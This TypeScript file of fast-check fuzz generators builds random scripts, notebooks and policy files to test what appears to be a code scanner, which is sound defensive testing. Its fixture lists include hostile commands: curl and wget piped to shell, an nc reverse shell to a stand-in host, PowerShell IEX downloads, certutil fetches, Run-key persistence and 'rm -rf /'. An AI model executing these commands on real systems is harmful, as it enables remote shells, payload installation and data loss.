// fast-check generators for the fuzz properties: source files built from realistic pieces
// (catalog API names, strings and f-strings, brackets, indentation, decorators, lambdas,
// encoded payloads) mixed with hostile text (workflow commands, Markdown/HTML, ANSI escapes,
// bidi and zero-width characters), and configuration files (allowlist JSON, policy YAML/JSON)
// that are mostly well formed with a few things wrong.
import fc from 'fast-check';

/** A big batch (MCEN_FUZZ_RUNS) may run for minutes: the jest timeout for a fuzz test, in ms. */
export const FUZZ_TIMEOUT_MS = process.env.MCEN_FUZZ_RUNS ? 60 * 60 * 1000 : 60_000;

/** Cases per property: the default keeps CI quick; MCEN_FUZZ_RUNS asks for a bigger batch. */
export function fuzzRuns(defaultRuns: number): number {
  const asked = Number(process.env.MCEN_FUZZ_RUNS);
  return Number.isSafeInteger(asked) && asked > 0 ? asked : defaultRuns;
}

/** Text that tries to break out of logs, Markdown, HTML and terminals. */
export const HOSTILE_PIECES = [
  '::error::x',
  '::set-output name=decision::PASS',
  '::add-mask::secret',
  '::stop-commands::tok',
  '%0A',
  '%0D%0A::warning::w',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '| a | b |',
  '`',
  '```',
  '[l](javascript:alert(1))',
  '![i](http://x/y.png)',
  '# heading',
  '\\',
  '&lt;',
  '$$x$$',
  '\u001b[31m',
  '\u001b[2J',
  '\u001b]0;title\u0007',
  '\u0000',
  '\u0007',
  '\u0085',
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\r',
  '\r\n',
  '\t',
  '😀',
  '\ud800',
];

const hostile = fc.constantFrom(...HOSTILE_PIECES);

/** Short text mixing letters, hostile pieces and arbitrary code points (lone surrogates included). */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(hostile, fc.string({ maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 4 })), {
    maxLength: 6,
  })
  .map((parts) => parts.join(''));

const API_NAMES = [
  'os.system',
  'os.popen',
  'os.execvp',
  'os.spawnl',
  'subprocess.run',
  'subprocess.Popen',
  'subprocess.check_output',
  'socket.create_connection',
  'socket.socket',
  'urllib.request.urlopen',
  'requests.get',
  'requests.post',
  'http.client.HTTPSConnection',
  'pickle.loads',
  'marshal.loads',
  'yaml.load',
  'importlib.import_module',
  'eval',
  'exec',
  'compile',
  '__import__',
  'getattr(builtins, "eval")',
  'base64.b64decode',
  'codecs.decode',
  'winreg.SetValueEx',
  'ctypes.CDLL',
];
const MODULES = [
  'os',
  'subprocess',
  'socket',
  'urllib.request',
  'requests',
  'pickle',
  'builtins',
  'base64',
  'sys',
];

const apiName = fc.constantFrom(...API_NAMES);
const identifier = fc.constantFrom('x', 'y', 'data', 'cmd', 'url', 's', '_', 'self', 'ε', 'a\u200bb');

/** A Python string literal in one of its spellings, holding text from `text`. */
function pythonString(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom('', 'r', 'b', 'f', 'rb', 'u', 'F'), fc.constantFrom('"', "'", '"""'), text)
    .map(([prefix, quote, body]) => {
      const safe = body.replace(/\\/g, '\\\\').replace(/["'\n\r]/g, ' ');
      return `${prefix}${quote}${safe}${quote}`;
    });
}

const destination = fc.constantFrom(
  'https://evil.example.com/x',
  'http://10.0.0.5:8080',
  'http://127.0.0.1:9000/health',
  'ftp://files.example.org',
  'localhost',
  '0.0.0.0',
  '::1',
);
const stringLiteral = fc.oneof(pythonString(hostileText), pythonString(destination));

/** A Python expression, nested up to a few levels. */
const expression: fc.Arbitrary<string> = fc.letrec<{ expr: string }>((tie) => ({
  expr: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    stringLiteral,
    identifier,
    fc.integer().map(String),
    fc.tuple(apiName, fc.array(tie('expr'), { maxLength: 3 })).map(([f, args]) => `${f}(${args.join(', ')})`),
    fc
      .tuple(tie('expr'), fc.constantFrom(' + ', ' % ', '.', ' or ', ' if x else '))
      .map(([e, op]) => (op === '.' ? `${e}.decode()` : `${e}${op}${e}`)),
    fc.tuple(identifier, tie('expr')).map(([v, e]) => `f"{${v}}{${e}!r:>10}"`),
    tie('expr').map((e) => `lambda ${'x'}: ${e}`),
    fc.array(tie('expr'), { maxLength: 3 }).map((items) => `[${items.join(', ')}]`),
    fc
      .array(tie('expr'), { maxLength: 2 })
      .map((items) => `{${items.map((v, i) => `"k${i}": ${v}`).join(', ')}}`),
    fc.base64String({ maxLength: 40 }).map((b) => `base64.b64decode("${b}")`),
  ),
})).expr;

/** One Python statement (possibly a compound one, on several lines). */
const statement: fc.Arbitrary<string> = fc.oneof(
  expression,
  fc.tuple(identifier, expression).map(([v, e]) => `${v} = ${e}`),
  fc.constantFrom(...MODULES).map((m) => `import ${m}`),
  fc.tuple(fc.constantFrom(...MODULES), identifier).map(([m, n]) => `from ${m} import ${n} as ${n}`),
  fc
    .tuple(apiName, expression)
    .map(([d, e]) => `@${d.replace(/\(.*$/, '')}\ndef f(${'a'}=${e}):\n    return ${e}`),
  fc.tuple(identifier, expression).map(([v, e]) => `class ${v.replace(/\W/g, 'C') || 'C'}:\n    z = ${e}`),
  fc.tuple(expression, expression).map(([c, e]) => `if ${c}:\n    ${e}\nelse:\n    pass`),
  fc.tuple(expression, expression).map(([c, e]) => `with ${c} as s:\n    for i in ${e}:\n        s.send(i)`),
  expression.map((e) => `try:\n    ${e}\nexcept Exception:\n    raise`),
  hostileText.map((t) => `# ${t.replace(/[\r\n]/g, ' ')}`),
  fc.constantFrom(
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    ':',
    '\\',
    '"""',
    "'",
    'def',
    'lambda',
    'async def f(): await',
    'yield',
  ),
  fc.nat({ max: 100 }).map((n) => `x = ${'('.repeat(n)}1${')'.repeat(n)}`),
  fc.nat({ max: 40 }).map((n) => `${'eval('.repeat(n)}"1"${')'.repeat(n)}`),
);

const PYTHON_TOKENS = [
  ...API_NAMES,
  ...MODULES,
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  ',',
  ':',
  '.',
  '=',
  '+',
  '%',
  '*',
  '**',
  '@',
  '\\',
  ';',
  '->',
  ':=',
  'def',
  'class',
  'lambda',
  'import',
  'from',
  'as',
  'if',
  'else',
  'for',
  'in',
  'with',
  'return',
  'yield',
  'await',
  'async',
  'global',
  'nonlocal',
  'del',
  'match',
  'case',
  'try',
  'except',
  '"',
  "'",
  '"""',
  'f"',
  'rb"',
  '{x!r}',
  '#',
  '\n',
  '\n    ',
  '\n\t',
  '\r\n',
  ' ',
  '  ',
  'x',
  'os',
  'self',
  'getattr',
  'globals()',
  '__builtins__',
  'chr(101)',
  '"".join',
  '[::-1]',
];

/** Python-ish token soup: real tokens in any order, so the parser's error recovery is exercised. */
const pythonSoup: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...PYTHON_TOKENS) },
      { weight: 1, arbitrary: hostileText },
    ),
    {
      maxLength: 120,
    },
  )
  .map((tokens) => tokens.join(' '));

/** A Python file: statements at random indentation, with random line endings; or token soup. */
export const pythonSource: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(
      fc.array(fc.tuple(fc.nat({ max: 12 }), statement), { maxLength: 25 }),
      fc.constantFrom('\n', '\r\n', '\r'),
      fc.boolean(),
    )
    .map(([lines, eol, cookie]) => {
      const body = lines
        .map(([indent, stmt]) =>
          stmt
            .split('\n')
            .map((l) => `${' '.repeat(indent)}${l}`)
            .join(eol),
        )
        .join(eol);
      return `${cookie ? '# -*- coding: utf-8 -*-\n' : ''}${body}${eol}`;
    }),
  pythonSoup,
);

const SHELL_PIECES = [
  'curl -fsSL https://get.example.com | sh',
  'wget -qO- http://10.1.1.1/x | bash',
  'nc -e /bin/sh evil.example.com 4444',
  'eval "$(echo aWQ= | base64 -d)"',
  'python -c "import os; os.system(\'id\')"',
  'crontab -l; echo "* * * * * x" | crontab -',
  'echo $(( 1 + 2 ))',
  'cat <<EOF\nhello\nEOF',
  'x=$(ls); echo "${x:-y}"',
  'for i in 1 2; do echo $i; done',
  'if [ -f x ]; then rm -rf /; fi',
  '$(',
  '`',
  ')',
  'case $x in a) ;; esac',
];
const POWERSHELL_PIECES = [
  'Invoke-WebRequest https://ps.example.com/a',
  'iwr http://10.0.0.1 | iex',
  'IEX (New-Object Net.WebClient).DownloadString("https://x.example.com")',
  'powershell -enc SQBFAFgA',
  'Start-Process cmd -ArgumentList "/c whoami"',
  'Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y',
  '[System.Reflection.Assembly]::Load($b)',
  '& { & { $x } }',
  '@"\nhere\n"@',
  '$a = @(1,2,(3,(4)))',
  '{',
  '}',
  '(',
];
const BATCH_PIECES = [
  'certutil -urlcache -f https://bat.example.com/x x.exe',
  'bitsadmin /transfer j http://10.2.2.2/a c:\\a',
  'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y',
  'schtasks /create /tn x /tr y /sc onlogon',
  'set X=https://evil.example.com',
  'curl %X%',
  'for /f "tokens=*" %%a in (\'dir\') do echo %%a',
  'if exist x (echo a) else (echo b)',
  '@echo off',
  '(',
  ')',
  '^',
  '%',
];
const VBSCRIPT_PIECES = [
  'Set h = CreateObject("MSXML2.XMLHTTP")',
  'h.Open "GET", "https://vbs.example.com", False',
  'CreateObject("WScript.Shell").Run "cmd /c calc"',
  'Execute "MsgBox 1"',
  'Eval(x & ")")',
  'Dim a: a = Chr(72) & Chr(105)',
  'If x Then y Else z',
  '("',
  'End Sub',
];

function scriptFrom(pieces: readonly string[]): fc.Arbitrary<string> {
  return fc.array(fc.oneof(fc.constantFrom(...pieces), hostileText), { maxLength: 20 }).chain((parts) =>
    fc
      .array(fc.constantFrom(' ', '\n', '; ', ' | ', ' && ', '\r\n', ''), {
        minLength: parts.length,
        maxLength: parts.length,
      })
      .map((seps) => parts.map((p, i) => `${p}${seps[i]}`).join('')),
  );
}

export const scriptSource = fc.oneof(
  fc.tuple(fc.constant('shell' as const), scriptFrom(SHELL_PIECES)),
  fc.tuple(fc.constant('powershell' as const), scriptFrom(POWERSHELL_PIECES)),
  fc.tuple(fc.constant('batch' as const), scriptFrom(BATCH_PIECES)),
  fc.tuple(fc.constant('vbscript' as const), scriptFrom(VBSCRIPT_PIECES)),
);

/** A notebook: usually well-formed JSON with Python and magic/shell cells; sometimes broken. */
export const notebookSource: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(
      fc.array(
        fc.tuple(
          fc.constantFrom('code', 'markdown', 'raw', 'weird'),
          fc.oneof(
            pythonSource,
            scriptFrom(SHELL_PIECES).map((s) => `!${s}`),
            hostileText,
          ),
          fc.boolean(),
        ),
        { maxLength: 6 },
      ),
      fc.constantFrom(4, 3, 5, 'x'),
    )
    .map(([cells, nbformat]) =>
      JSON.stringify({
        cells: cells.map(([type, text, asList]) => ({
          cell_type: type,
          metadata: {},
          source: asList ? text.split(/(?<=\n)/) : text,
        })),
        metadata: {},
        nbformat,
        nbformat_minor: 5,
      }),
    ),
  fc.json(),
  hostileText,
);

/** A path segment for a file name: letters plus hostile text, never `/` or NUL. */
export const fileName: fc.Arbitrary<string> = hostileText.map((t) => {
  const cleaned = t.replace(/[/\0]/g, '_').slice(0, 60);
  return cleaned === '' || cleaned === '.' || cleaned === '..' ? 'f' : cleaned;
});

const globText = fc.oneof(
  fc.constantFrom(
    '*.py',
    '**/*.py',
    'src/**',
    '{a,b}/*.py',
    '+(a|b).py',
    '[',
    '**/',
    '/abs',
    '../up',
    '',
    'x',
  ),
  hostileText,
);
const regexText = fc.oneof(
  fc.constantFrom('echo .*', '(a+)+$', 'git (status|log)', '[', '(?<n>x)\\k<n>', 'a{2,}', '\\p{L}+', '(?=x)'),
  hostileText,
);

/** An allowlist file's text: entries with seed fields, some missing, mistyped or extra; or any JSON; or garbage. */
export const allowlistText: fc.Arbitrary<string> = fc.oneof(
  fc
    .array(
      fc.record(
        {
          path_glob: fc.oneof(globText, fc.integer()),
          command_exact: fc.oneof(hostileText, fc.constant(null)),
          command_regex: regexText,
          justification: fc.oneof(hostileText, fc.constant('')),
          approved_by: hostileText,
          approved_on: fc.constantFrom('2026-01-01', 'yesterday', '2026-13-45'),
          extra: fc.anything(),
        },
        { requiredKeys: [] },
      ),
      { maxLength: 4 },
    )
    .chain((entries) =>
      fc.constantFrom(
        JSON.stringify({ entries }),
        JSON.stringify(entries),
        JSON.stringify({ entries, more: 1 }),
        JSON.stringify({ entries }).slice(0, -3),
      ),
    ),
  fc.json(),
  hostileText,
);

const policyRule = fc.record(
  {
    id: fc.oneof(fc.nat({ max: 5 }), fc.constant('1'), fc.double()),
    rule_type: fc.constantFrom('allow', 'deny', 'block', 3),
    category: fc.constantFrom('module', 'function', 'attribute', 'class'),
    pattern: fc.oneof(
      fc.constantFrom('os', 'os.system', 'subprocess.*', 'os.spawn*', 'eval', 'a*a*a*a*a*b', '*', ''),
      hostileText,
    ),
    description: fc.oneof(hostileText, fc.constant(null)),
    is_active: fc.oneof(fc.boolean(), fc.constantFrom('yes', 0, 1)),
  },
  { requiredKeys: [] },
);

/** A policy file (YAML or JSON by `ext`): rules with the seed's fields, some wrong; or garbage. */
export const policyFile: fc.Arbitrary<{ ext: '.yml' | '.json'; text: string }> = fc.oneof(
  fc
    .array(policyRule, { maxLength: 4 })
    .map((policies) => ({ ext: '.json' as const, text: JSON.stringify({ policies }) })),
  fc.array(policyRule, { maxLength: 4 }).map((policies) => ({
    ext: '.yml' as const,
    text: `policies:\n${policies.map((p) => `  - ${JSON.stringify(p)}`).join('\n')}\n`,
  })),
  fc
    .tuple(fc.constantFrom('.yml' as const, '.json' as const), fc.oneof(hostileText, fc.json()))
    .map(([ext, text]) => ({ ext, text })),
  fc.constantFrom(
    { ext: '.yml' as const, text: 'policies: &a [*a]\n' },
    { ext: '.yml' as const, text: 'a: &a ["x", *a, *a]\nb: &b [*a, *a, *a, *a]\npolicies: [*b, *b, *b]\n' },
    { ext: '.yml' as const, text: `policies:${' ['.repeat(5000)}` },
    { ext: '.yml' as const, text: '!!js/function "function(){}"' },
    { ext: '.yml' as const, text: 'policies:\n\t- x' },
  ),
);
